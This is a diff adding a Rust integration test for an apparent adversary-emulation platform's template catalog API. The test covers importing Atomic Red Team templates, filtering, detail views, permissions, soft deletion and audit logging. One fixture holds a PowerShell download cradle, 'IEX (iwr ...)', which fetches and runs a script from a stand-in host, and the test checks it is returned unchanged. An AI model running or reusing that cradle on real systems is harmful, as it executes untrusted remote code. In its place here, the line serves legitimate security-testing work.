@@ -1,0 +1,229 @@
+//! The test template catalog through the API: listing with filters, detail, and soft
+//! deletion, on templates imported from Atomic Red Team.
+use crate::common::{TestApp, json_body};
+use crate::on_both_backends;
+use app::server::context::Actor;
+use app::server::templates::import::{AtomicSourceFile, import_atomics};
+use serde_json::{Value, json};
+
+on_both_backends!(the_catalog_lists_filters_and_deactivates_templates);
+
+const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");
+
+const POWERSHELL: &str = r#"attack_technique: T1059.001
+display_name: PowerShell
+atomic_tests:
+- name: Download cradle
+  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
+  description: Downloads and runs a script.
+  supported_platforms: [windows]
+  input_arguments:
+    url:
+      description: Where from
+      type: url
+      default: https://example.test/a.ps1
+  dependency_executor_name: powershell
+  dependencies:
+  - description: Module present
+    prereq_command: Test-Path x
+    get_prereq_command: New-Item x
+  executor:
+    name: powershell
+    command: IEX (iwr '#{url}')
+    cleanup_command: Remove-Item x
+    elevation_required: true
+"#;
+
+const FUTURE: &str = r#"attack_technique: T9999
+display_name: Not in ATT&CK yet
+atomic_tests:
+- name: By hand
+  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11
+  description: Follow the steps.
+  supported_platforms: [linux]
+  executor:
+    name: manual
+    steps: 1. ls
+"#;
+
+async fn total(app: &TestApp, token: &str, query: &str) -> u64 {
+    let response = app
+        .get(&format!("/api/v1/test-templates{query}"), token)
+        .await;
+    assert_eq!(response.status(), 200, "{query}");
+    json_body(response).await["total"].as_u64().unwrap()
+}
+
+async fn the_catalog_lists_filters_and_deactivates_templates(app: TestApp) -> TestApp {
+    let admin = app.admin_token().await;
+    assert_eq!(
+        app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
+            .await
+            .status(),
+        200
+    );
+    let db = app.database().await;
+    let files = [
+        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
+        ("atomics/T9999/T9999.yaml", FUTURE),
+    ]
+    .into_iter()
+    .map(|(path, text)| AtomicSourceFile {
+        path: path.to_owned(),
+        text: text.to_owned(),
+    })
+    .collect();
+    let report = import_atomics(&db, &Actor::system("test"), files, &|_, _| {})
+        .await
+        .unwrap();
+    assert_eq!(report.added, 2);
+    assert_eq!(report.unknown_techniques, ["T9999"]);
+    db.close().await.unwrap();
+
+    app.create_user(&admin, "vic", "viewer", "viewer-password-1")
+        .await;
+    let viewer = app.login("vic", "viewer-password-1").await;
+
+    let page = json_body(app.get("/api/v1/test-templates", &viewer).await).await;
+    assert_eq!(page["total"], 2);
+    assert_eq!(page["limit"], 50);
+    let cradle = &page["items"][0];
+    assert_eq!(cradle["technique_id"], "T1059.001");
+    assert_eq!(cradle["technique_known"], true);
+    assert_eq!(cradle["source"], "atomic_red_team");
+    assert_eq!(
+        cradle["external_id"],
+        "f3132740-55bc-48c4-bcc0-758a459cd027"
+    );
+    assert_eq!(cradle["platforms"], json!(["windows"]));
+    assert_eq!(cradle["severity"], "medium");
+    assert_eq!(
+        page["items"][1]["technique_known"], false,
+        "flagged, not dropped"
+    );
+
+    for (query, expected) in [
+        ("?platform=Windows", 1),
+        ("?platform=linux", 1),
+        ("?platform=macos", 0),
+        ("?source=atomic_red_team", 2),
+        ("?source=custom", 0),
+        ("?severity=medium", 2),
+        ("?search=CRADLE", 1),
+        ("?search=t9999", 1),
+        ("?mitre_technique_id=t1059.001", 1),
+        ("?limit=1&offset=1", 2),
+    ] {
+        assert_eq!(total(&app, &viewer, query).await, expected, "{query}");
+    }
+    let second = json_body(
+        app.get("/api/v1/test-templates?limit=1&offset=1", &viewer)
+            .await,
+    )
+    .await;
+    assert_eq!(second["items"][0]["technique_id"], "T9999");
+    for (query, field) in [
+        ("?source=github", "source"),
+        ("?severity=urgent", "severity"),
+        ("?limit=0", "limit"),
+    ] {
+        let response = app
+            .get(&format!("/api/v1/test-templates{query}"), &viewer)
+            .await;
+        assert_eq!(response.status(), 422, "{query}");
+        assert!(
+            json_body(response).await["fields"][field].is_string(),
+            "{query}"
+        );
+    }
+
+    let id = cradle["id"].as_str().unwrap().to_owned();
+    let detail = json_body(
+        app.get(&format!("/api/v1/test-templates/{id}"), &viewer)
+            .await,
+    )
+    .await;
+    assert_eq!(detail["command"], "IEX (iwr '#{url}')");
+    assert_eq!(detail["cleanup_command"], "Remove-Item x");
+    assert_eq!(detail["elevation_required"], true);
+    assert_eq!(detail["input_arguments"][0]["type"], "url");
+    assert_eq!(
+        detail["input_arguments"][0]["default"],
+        "https://example.test/a.ps1"
+    );
+    assert_eq!(
+        detail["dependencies"][0]["get_prereq_command"],
+        "New-Item x"
+    );
+    assert_eq!(detail["dependency_executor_name"], "powershell");
+    assert_eq!(
+        app.get(
+            &format!("/api/v1/test-templates/{}", uuid::Uuid::new_v4()),
+            &viewer
+        )
+        .await
+        .status(),
+        404
+    );
+
+    // Deleting deactivates: admins still see it and can bring it back; others no longer do.
+    assert_eq!(
+        app.delete(&format!("/api/v1/test-templates/{id}"), &viewer)
+            .await
+            .status(),
+        403
+    );
+    let response = app
+        .delete(&format!("/api/v1/test-templates/{id}"), &admin)
+        .await;
+    assert_eq!(response.status(), 200);
+    assert_eq!(json_body(response).await["is_active"], false);
+    assert_eq!(total(&app, &viewer, "").await, 1);
+    assert_eq!(total(&app, &viewer, "?include_inactive=true").await, 1);
+    assert_eq!(total(&app, &admin, "?include_inactive=true").await, 2);
+    assert_eq!(
+        app.get(&format!("/api/v1/test-templates/{id}"), &viewer)
+            .await
+            .status(),
+        404
+    );
+    let response = app
+        .post(
+            &format!("/api/v1/test-templates/{id}/toggle-active"),
+            &admin,
+        )
+        .await;
+    assert_eq!(response.status(), 200);
+    assert_eq!(json_body(response).await["is_active"], true);
+    assert_eq!(total(&app, &viewer, "").await, 2);
+    assert_eq!(
+        app.post(
+            &format!("/api/v1/test-templates/{id}/toggle-active"),
+            &viewer
+        )
+        .await
+        .status(),
+        403
+    );
+
+    let audit: Value = json_body(
+        app.get("/api/v1/audit-logs?entity_type=test_template", &admin)
+            .await,
+    )
+    .await;
+    let actions: Vec<&str> = audit["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        actions,
+        [
+            "template.activate",
+            "template.deactivate",
+            "templates.import"
+        ]
+    );
+    app
+}
